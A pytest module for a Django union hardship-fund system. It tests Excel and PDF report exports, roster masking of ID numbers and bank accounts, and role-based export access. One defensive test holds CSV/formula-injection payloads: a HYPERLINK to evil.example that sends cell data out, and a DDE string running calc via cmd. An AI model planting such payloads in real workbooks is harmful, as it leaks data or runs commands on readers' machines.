"""Files people take away: the annual report as Excel and PDF (and from the command line),
the household roster, the notice list and the approval form.

Workbooks are opened with openpyxl and read cell by cell; PDFs are read back with pdfium
(text extraction, and one page rendered to an image), so what is checked is what a reader
of the file would see. PDF renders cost about a second each: this module renders five."""

import datetime
import io
import re
from decimal import Decimal

import pypdfium2 as pdfium
import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.urls import reverse
from factories import HouseholdFactory, UnitFactory
from openpyxl import load_workbook
from reportkit import SHEETS, YEAR, D, expected_report, household, pay, receive

from funds.models import AidType, LedgerEntry
from hardship.idnumber import mask_id_number, mask_phone
from hardship.models import ExportLog
from households.models import Household
from reports.annual import annual_report
from reports.excel import YUAN
from reports.exports import annual_xlsx

pytestmark = pytest.mark.django_db

RARE = "堃喆赟镕玥"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook_of(report):
    buffer = io.BytesIO()
    annual_xlsx(report, buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def pdf_text(data: bytes) -> str:
    pdf = pdfium.PdfDocument(data)
    try:
        return "\n".join(page.get_textpage().get_text_bounded() for page in pdf)
    finally:
        pdf.close()


def squeezed(text: str) -> str:
    """Text without line breaks and spaces: a table cell may wrap a long number."""
    return re.sub(r"\s+", "", text)


def summary_of(ws) -> dict:
    """The summary sheet's label → cell, from the row under the header on."""
    return {row[0].value: row[1] for row in ws.iter_rows(min_row=4) if row[0].value}


def table_of(ws, header_row=1) -> list[dict]:
    headers = [c.value for c in ws[header_row]]
    return [
        dict(zip(headers, row, strict=True))
        for row in ws.iter_rows(min_row=header_row + 1)
        if any(c.value is not None for c in row)
    ]


def as_decimal(cell) -> Decimal:
    return Decimal(str(cell.value))


def assert_yuan(cell):
    assert cell.data_type == "n" and isinstance(cell.value, int | float), (
        cell.coordinate,
        cell.value,
    )
    assert cell.number_format == YUAN, cell.coordinate


# The annual report as Excel --------------------------------------------------------------


def test_auditor_can_open_the_workbook_with_chinese_sheets_and_frozen_headers(org, ledger):
    wb = workbook_of(annual_report(YEAR, org.c1))
    assert wb.sheetnames == SHEETS
    assert wb["汇总"].freeze_panes == "A4"  # title and stamp above the header row
    for title in SHEETS[1:]:
        assert wb[title].freeze_panes == "A2", title
    for ws in wb.worksheets:
        assert ws.column_dimensions["A"].width >= 12, ws.title
        assert all(c.font.b for c in ws[3 if ws.title == "汇总" else 1]), ws.title


def assert_prints_sensibly(ws, header_row: int):
    """Landscape, one page wide, the header row on every page and frozen on screen."""
    assert ws.page_setup.orientation == "landscape", ws.title
    assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0), ws.title
    assert ws.print_title_rows == f"${header_row}:${header_row}", ws.title
    assert ws.freeze_panes == f"A{header_row + 1}", ws.title
    assert ws.print_options.gridLines, ws.title


def test_auditor_can_print_every_sheet_of_the_workbook(org, ledger):
    wb = workbook_of(annual_report(YEAR, org.c1))
    for ws in wb.worksheets:
        assert_prints_sensibly(ws, 3 if ws.title == "汇总" else 1)
    # Fitted to the text: the longest union name, a Chinese character counting two.
    by_union = wb["按基层工会"]
    longest = max(len(str(c.value)) for c in by_union["A"] if c.value)
    assert by_union.column_dimensions["A"].width >= 2 * longest


def test_auditor_can_reconcile_the_summary_sheet_with_the_ledger(org, ledger):
    expected = expected_report(YEAR, org.c1)
    summary = summary_of(workbook_of(annual_report(YEAR, org.c1))["汇总"])
    money = {
        "年初余额": expected["opening"],
        "到账合计": expected["receipts_total"],
        "到账冲销": expected["receipt_reversals"],
        "发放合计": expected["payments_total"],
        "发放冲销": expected["payment_reversals"],
        "净发放": expected["net_paid"],
        "户均帮扶金额": expected["average_per_household"],
        "年末余额": expected["closing"],
        **{f"到账：{label}": amount for label, amount in expected["receipts_by_source"].items()},
    }
    for label, amount in money.items():
        assert_yuan(summary[label])
        assert as_decimal(summary[label]) == amount, label
    assert summary["帮扶户数"].value == expected["households_helped"] == 3
    assert summary["帮扶人次"].value == expected["person_times"] == 5
    assert summary["资金使用率（%）"].data_type == "n"
    assert as_decimal(summary["资金使用率（%）"]) == expected["utilisation"] == D("8.56")
    assert as_decimal(summary["年末余额"]) == D("79100")


def test_auditor_can_see_when_and_from_which_rows_the_workbook_was_made(org, ledger):
    ws = workbook_of(annual_report(YEAR, org.c1))["汇总"]
    assert ws["A1"].value == "第一公司工会 2025 年度帮扶资金使用情况"
    stamp = ws["A2"].value
    last = expected_report(YEAR, org.c1)["last_entry_id"]
    assert re.fullmatch(rf"生成时间：\d{{4}}-\d\d-\d\d \d\d:\d\d；数据截至台账第 {last} 条", stamp)


@pytest.mark.parametrize("sheet", ["按基层工会", "按帮扶类型", "按致困原因"])
def test_auditor_can_read_breakdown_sheets_as_numbers(org, ledger, sheet):
    key = {"按基层工会": "by_union", "按帮扶类型": "by_aid_type", "按致困原因": "by_cause"}[sheet]
    rows = table_of(workbook_of(annual_report(YEAR, org.c1))[sheet])
    found = {}
    for row in rows:
        cells = list(row.values())
        for cell in cells[1:4]:
            assert_yuan(cell)
        assert all(c.data_type == "n" and isinstance(c.value, int) for c in cells[4:6])
        found[cells[0].value] = (
            *(as_decimal(c) for c in cells[1:4]),
            cells[4].value,
            cells[5].value,
        )
    assert found == expected_report(YEAR, org.c1)[key]


def test_auditor_can_find_every_ledger_row_of_the_year_on_the_ledger_sheet(org, ledger):
    rows = table_of(workbook_of(annual_report(YEAR, org.c1))["资金台账"])
    in_scope = LedgerEntry.objects.filter(
        fund__in=[ledger.fund_a, ledger.fund_b], posted_on__year=YEAR
    )
    assert len(rows) == in_scope.count() == expected_report(YEAR, org.c1)["ledger_rows"] == 11
    assert sorted(r["凭证号"].value for r in rows) == sorted(
        in_scope.values_list("voucher", flat=True)
    )
    for row in rows:
        assert_yuan(row["金额（元）"])
        assert row["记账日期"].is_date and row["记账日期"].value.year == YEAR
    total = sum((as_decimal(r["金额（元）"]) for r in rows), Decimal("0"))
    expected = expected_report(YEAR, org.c1)
    assert total == expected["closing"] - expected["opening"]
    reversal = next(r for r in rows if r["凭证号"].value == f"{ledger.reversed_payment.voucher}-CX")
    assert reversal["类型"].value == "冲销"
    assert reversal["冲销凭证"].value == ledger.reversed_payment.voucher
    assert as_decimal(reversal["金额（元）"]) == D("800")
    assert "第二公司社会捐助" not in {r["资金账户"].value for r in rows}


def test_the_ledger_sheet_names_the_union_a_payment_was_made_in(org, ledger):
    """h3 moved to 机修车间 after its payment was made and reversed: both rows still name
    炼油车间, as the sheet by union counts them; a receipt names none."""
    Household.objects.filter(pk=ledger.h3.pk).update(union=org.g1a)
    rows = table_of(workbook_of(annual_report(YEAR, org.c1))["资金台账"])
    union = {row["凭证号"].value: row["基层工会"].value for row in rows}
    voucher = ledger.reversed_payment.voucher
    assert union[voucher] == union[f"{voucher}-CX"] == "炼油车间工会"
    assert not union[ledger.reversed_receipt.voucher]


def test_auditor_cannot_read_a_full_bank_account_on_the_ledger_sheet(org, ledger, finance_c1):
    account = "6222021234567890123"
    h = household(org.g1a, "钱多多", bank_account=account)
    pay(
        finance_c1,
        ledger.fund_a,
        [(h, "100")],
        AidType.LIVING,
        datetime.date(2025, 12, 1),
        method=LedgerEntry.Method.BANK,
    )
    ws = workbook_of(annual_report(YEAR, org.c1))["资金台账"]
    (row,) = [r for r in table_of(ws) if r["收款人"].value == "钱多多"]
    assert row["银行卡号"].value == "****0123"
    assert row["发放方式"].value == "银行卡"
    assert not any(account in str(c.value) for line in ws.iter_rows() for c in line)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击领取")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ],
)
def test_finance_cannot_smuggle_a_formula_into_the_workbook(org, ledger, finance_c1, text):
    """A note or a payee's name that starts like a formula is stored as text, unchanged."""
    receive(finance_c1, ledger.fund_a, "10", datetime.date(2025, 7, 1), note=text)
    payee = household(org.g1a, text[:20])
    pay(
        finance_c1,
        ledger.fund_a,
        [(payee, "10")],
        AidType.LIVING,
        datetime.date(2025, 7, 2),
        name=text[:50],
    )
    rows = table_of(workbook_of(annual_report(YEAR, org.c1))["资金台账"])
    cells = [r["摘要"] for r in rows if r["摘要"].value in (text, text[:50])]
    cells += [r["收款人"] for r in rows if r["收款人"].value == text[:20]]
    assert len(cells) == 3
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.value in (text, text[:50], text[:20])


def test_auditor_cannot_smuggle_a_formula_through_a_unit_name(org, ledger):
    org.c1.name = "=1+1 第一公司工会"
    org.c1.save()
    ws = workbook_of(annual_report(YEAR, org.c1))["汇总"]
    assert ws["A1"].data_type == "s"
    assert ws["A1"].value.startswith("=1+1 第一公司工会")


def test_auditor_can_download_the_workbook_from_the_report_page(client, org, ledger, auditor_fed):
    client.force_login(auditor_fed)
    response = client.get(reverse("annual_report_xlsx"), {"year": YEAR, "unit": org.c2.pk})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(body(response)))
    assert wb.sheetnames == SHEETS
    summary = summary_of(wb["汇总"])
    assert as_decimal(summary["年末余额"]) == expected_report(YEAR, org.c2)["closing"] == D("24100")
    assert wb["汇总"]["A1"].value == "第二公司工会 2025 年度帮扶资金使用情况"


# The annual report as PDF ----------------------------------------------------------------


def test_auditor_can_read_the_pdf_in_chinese_with_page_numbers_and_signatures(
    client, org, ledger, auditor_fed
):
    """One render proves the whole toolchain: WeasyPrint with the shipped CJK font writes a
    PDF whose text pdfium reads back, rare characters included, and whose first page draws
    as a picture with ink on it."""
    org.g1b.name = f"{RARE}车间工会"
    org.g1b.save()
    client.force_login(auditor_fed)
    response = client.get(reverse("annual_report_pdf"), {"year": YEAR, "unit": org.c1.pk})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    data = body(response)
    assert data.startswith(b"%PDF")
    pdf = pdfium.PdfDocument(data)
    width, height = pdf[0].get_size()
    assert (round(width), round(height)) == (595, 842)  # A4 in points
    text = pdf_text(data)
    for heading in ["年度帮扶资金使用情况", "资金收支总览", "制表人", "审核人", "负责人"]:
        assert heading in text, heading
    assert "第一公司工会 · 2025 年度帮扶资金使用情况" in text  # the page header
    assert "第 1 页" in text
    assert f"第 {len(pdf)} 页 / 共 {len(pdf)} 页" in text
    assert f"{RARE}车间工会" in text
    assert "郑审计 导出于" in text
    assert "79,100.00" in text and "7,400.50" in text and "8.56%" in text
    assert "机修车间工会4,400.50元" in squeezed(text)  # the by-union chart's bar label
    assert "第二公司社会捐助" not in text and "化工车间工会" not in text

    image = pdf[0].render(scale=1).to_pil().convert("L")
    pdf.close()
    dark = sum(image.histogram()[:128])
    assert dark > 2000, "page 1 drew (almost) nothing"


def embedded_fonts(data: bytes) -> set[str]:
    """The base names of the fonts the PDF's text is drawn with, without subset prefixes,
    read with pdfium from every text object (inside forms too: the SVG charts)."""
    import ctypes

    import pypdfium2.raw as raw

    names = set()

    def walk(get, count):
        for i in range(count):
            obj = get(i)
            kind = raw.FPDFPageObj_GetType(obj)
            if kind == raw.FPDF_PAGEOBJ_TEXT:
                font = raw.FPDFTextObj_GetFont(obj)
                size = raw.FPDFFont_GetBaseFontName(font, None, 0)
                buffer = ctypes.create_string_buffer(size)
                raw.FPDFFont_GetBaseFontName(font, buffer, size)
                names.add(buffer.value.decode().split("+", 1)[-1])
            elif kind == raw.FPDF_PAGEOBJ_FORM:
                walk(
                    lambda j, o=obj: raw.FPDFFormObj_GetObject(o, j),
                    raw.FPDFFormObj_CountObjects(obj),
                )

    pdf = pdfium.PdfDocument(data)
    try:
        for page in pdf:
            walk(
                lambda j, p=page.raw: raw.FPDFPage_GetObject(p, j),
                raw.FPDFPage_CountObjects(page.raw),
            )
    finally:
        pdf.close()
    return names


def test_annual_pdf_embeds_only_the_shipped_font(org, ledger):
    """The charts' labels and figures too: no font the machine happens to have."""
    from reports.exports import annual_pdf

    data = annual_pdf(annual_report(YEAR, org.c1))
    fonts = embedded_fonts(data)
    assert fonts and fonts <= {"Report-Sans", "Report-Sans-Bold"}, fonts
    assert "机修车间工会4,400.50元" in squeezed(pdf_text(data))  # a chart label, drawn


def test_shipped_font_covers_the_rare_characters_of_names():
    """The PDF's text survives extraction either way; the glyphs are only real if the font
    the project ships has them (else a machine without CJK fonts prints boxes)."""
    from fontTools.ttLib import TTFont

    for name in ["NotoSansSC-Regular.otf", "NotoSansSC-Bold.otf"]:
        cmap = TTFont(settings.REPORT_FONT_DIR / name, lazy=True).getBestCmap()
        for char in RARE + "年度帮扶资金使用情况制表人审核人负责人第页元":
            assert ord(char) in cmap, (name, char)


# The command line ------------------------------------------------------------------------


def test_administrator_can_export_the_whole_tree_as_xlsx_from_the_command_line(
    org, ledger, tmp_path
):
    target = tmp_path / "report.xlsx"
    out = io.StringIO()
    call_command("export_annual_report", year=YEAR, format="xlsx", output=str(target), stdout=out)
    wb = load_workbook(target)
    assert wb.sheetnames == SHEETS
    expected = expected_report(YEAR, org.fed)
    assert len(table_of(wb["资金台账"])) == expected["ledger_rows"] == 13
    assert as_decimal(summary_of(wb["汇总"])["年末余额"]) == expected["closing"]
    assert wb["汇总"]["A1"].value == "区总工会 2025 年度帮扶资金使用情况"
    assert "13 ledger rows" in out.getvalue()


def test_administrator_can_scope_the_command_to_one_unit(org, ledger, tmp_path):
    target = tmp_path / "c1.xlsx"
    call_command(
        "export_annual_report",
        year=YEAR,
        format="xlsx",
        output=str(target),
        unit="C1",
        stdout=io.StringIO(),
    )
    wb = load_workbook(target)
    expected = expected_report(YEAR, org.c1)
    assert len(table_of(wb["资金台账"])) == expected["ledger_rows"] == 11
    assert as_decimal(summary_of(wb["汇总"])["年末余额"]) == expected["closing"]


def test_administrator_can_export_a_pdf_from_the_command_line(org, ledger, tmp_path):
    target = tmp_path / "c2.pdf"
    call_command(
        "export_annual_report",
        "--year",
        str(YEAR),
        "--format",
        "pdf",
        "--output",
        str(target),
        "--unit",
        "C2",
        stdout=io.StringIO(),
    )
    text = pdf_text(target.read_bytes())
    assert "第二公司工会 · 2025 年度帮扶资金使用情况" in text
    assert "化工车间工会" in text and "24,100.00" in text
    assert "第一公司工会" not in text
    assert "None" not in text  # no user exported it: the stamp must not say "None"


def test_administrator_cannot_export_an_unknown_unit(org, ledger, tmp_path):
    target = tmp_path / "x.xlsx"
    with pytest.raises(CommandError, match="NOPE"):
        call_command(
            "export_annual_report", year=YEAR, format="xlsx", output=str(target), unit="NOPE"
        )
    assert not target.exists()


def test_administrator_cannot_export_without_a_unit_when_the_tree_has_two_roots(org, tmp_path):
    UnitFactory.federation(code="FED2", name="另一总工会")
    with pytest.raises(CommandError, match="--unit"):
        call_command(
            "export_annual_report", year=YEAR, format="xlsx", output=str(tmp_path / "x.xlsx")
        )


# The household roster --------------------------------------------------------------------


@pytest.fixture
def roster(org):
    """Four in-file households: two in G1a, one in G1b, one in the other company."""
    return {
        "a": HouseholdFactory(in_file=True, union=org.g1a, worker_name="甲一", category="dibao"),
        "b": HouseholdFactory(
            in_file=True, union=org.g1a, worker_name="乙二", category="near_dibao"
        ),
        "c": HouseholdFactory(in_file=True, union=org.g1b, worker_name="丙三", category="dibao"),
        "d": HouseholdFactory(in_file=True, union=org.g2a, worker_name="丁四", category="dibao"),
    }


def roster_rows(client, user, **filters) -> dict:
    client.force_login(user)
    response = client.get(reverse("roster_xlsx"), filters)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX
    wb = load_workbook(io.BytesIO(body(response)))
    assert wb.sheetnames == ["困难职工台账"]
    assert wb.active.freeze_panes == "A2"
    return {row["职工姓名"].value: row for row in table_of(wb.active)}


def test_caseworker_can_export_the_roster_of_their_union_masked_by_default(
    client, roster, caseworker_g1a
):
    rows = roster_rows(client, caseworker_g1a)
    assert set(rows) == {"甲一", "乙二"}
    a = roster["a"]
    assert rows["甲一"]["身份证号"].value == mask_id_number(a.id_number)
    assert rows["甲一"]["联系电话"].value == mask_phone(a.phone)
    assert rows["甲一"]["基层工会"].value == "机修车间工会"
    assert rows["甲一"]["建档日期"].is_date
    log = ExportLog.objects.get(user=caseworker_g1a)
    assert (log.kind, log.rows, log.full_identity) == (ExportLog.Kind.ROSTER, 2, False)


def test_caseworker_can_print_the_roster_with_columns_fitted_to_the_text(
    client, roster, caseworker_g1a
):
    client.force_login(caseworker_g1a)
    ws = load_workbook(io.BytesIO(body(client.get(reverse("roster_xlsx"), {"full": "1"})))).active
    assert_prints_sensibly(ws, 1)
    widths = {
        ws.cell(1, i).value: ws.column_dimensions[ws.cell(1, i).column_letter].width
        for i in range(1, ws.max_column + 1)
    }
    assert widths["身份证号"] >= 18  # eighteen digits
    assert widths["基层工会"] >= len("机修车间工会") * 2
    assert widths["性别"] <= 6  # a one-character column stays narrow


def test_caseworker_can_export_the_roster_with_full_ids_when_asked_and_logged(
    client, roster, caseworker_g1a
):
    rows = roster_rows(client, caseworker_g1a, full="1")
    a = roster["a"]
    assert rows["甲一"]["身份证号"].value == a.id_number
    assert rows["甲一"]["联系电话"].value == a.phone
    assert ExportLog.objects.get(user=caseworker_g1a).full_identity is True


def test_caseworker_can_export_the_roster_with_the_list_filters(client, roster, caseworker_g1a):
    assert set(roster_rows(client, caseworker_g1a, category="dibao")) == {"甲一"}
    assert set(roster_rows(client, caseworker_g1a, q="乙")) == {"乙二"}


def test_auditor_cannot_export_the_roster_with_full_ids_even_when_asking(
    client, roster, auditor_fed
):
    rows = roster_rows(client, auditor_fed, category="dibao", full="1")
    assert set(rows) == {"甲一", "丙三", "丁四"}
    for key, name in [("a", "甲一"), ("c", "丙三"), ("d", "丁四")]:
        h = roster[key]
        assert rows[name]["身份证号"].value == mask_id_number(h.id_number) != h.id_number
        assert rows[name]["联系电话"].value == mask_phone(h.phone) != h.phone
    assert ExportLog.objects.get(user=auditor_fed).full_identity is False


def test_auditor_can_export_one_company_roster_by_the_union_filter(
    client, org, roster, auditor_fed
):
    assert set(roster_rows(client, auditor_fed, union=org.c2.pk)) == {"丁四"}


def test_committee_cannot_export_another_company_roster(client, org, roster, committee_c1):
    # G2a is not among the committee member's unions: the filter is dropped, the scope stays.
    rows = roster_rows(client, committee_c1, union=org.g2a.pk, full="1")
    assert set(rows) == {"甲一", "乙二", "丙三"}
    assert rows["丙三"]["身份证号"].value == mask_id_number(roster["c"].id_number)


def test_reviewer_can_export_the_company_roster_with_full_ids(client, roster, reviewer_c1):
    rows = roster_rows(client, reviewer_c1, full="1")
    assert set(rows) == {"甲一", "乙二", "丙三"}
    assert rows["丙三"]["身份证号"].value == roster["c"].id_number


# Notice list and approval form ------------------------------------------------------------


def test_caseworker_can_export_the_notice_list_with_names_and_ids_masked(
    client, app_at, caseworker_g1a
):
    application = app_at("in_notice")
    h = application.household
    client.force_login(caseworker_g1a)
    response = client.get(reverse("notice_pdf"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(body(response))
    flat = squeezed(text)
    assert "困难职工帮扶公示名单" in text
    assert "张*国" in text
    assert "张建国" not in flat
    assert mask_id_number(h.id_number) in flat
    assert h.id_number not in flat
    assert h.id_number[6:14] not in flat  # not even the birth date
    assert "第 1 页" in text


def test_reviewer_can_export_the_approval_form_with_the_whole_trail(client, app_at, reviewer_c1):
    application = app_at("in_notice")
    h = application.household
    client.force_login(reviewer_c1)
    response = client.get(reverse("application_pdf", args=[application.pk]))
    assert response.status_code == 200
    text = pdf_text(body(response))
    flat = squeezed(text)
    for heading in ["困难职工帮扶申请审批表", "审批记录", "经办人", "审核人", "负责人"]:
        assert heading in text, heading
    assert application.number in flat
    assert "张建国" in text and "机修车间工会" in text
    # The form is paper that travels: the ID is masked whoever prints it.
    assert mask_id_number(h.id_number) in flat
    assert h.id_number not in flat
    decisions = list(application.decisions.select_related("actor"))
    assert len(decisions) >= 4
    for decision in decisions:
        assert str(decision.actor) in text, decision
    assert {"王干事", "李主席", "孙复核", "周委员"} <= {str(d.actor) for d in decisions}
    assert text.count("同意。") >= 3
    assert "公示：" in text


def test_caseworker_of_another_company_cannot_export_the_approval_form(
    client, app_at, caseworker_g2a
):
    application = app_at("submitted")
    client.force_login(caseworker_g2a)
    assert client.get(reverse("application_pdf", args=[application.pk])).status_code == 404


def test_caseworker_can_filter_the_roster_by_status(client, org, roster, caseworker_g1a):
    HouseholdFactory(exited=True, union=org.g1a, worker_name="戊五")
    assert "戊五" in roster_rows(client, caseworker_g1a)
    assert "戊五" not in roster_rows(client, caseworker_g1a, status=Household.Status.IN_FILE)
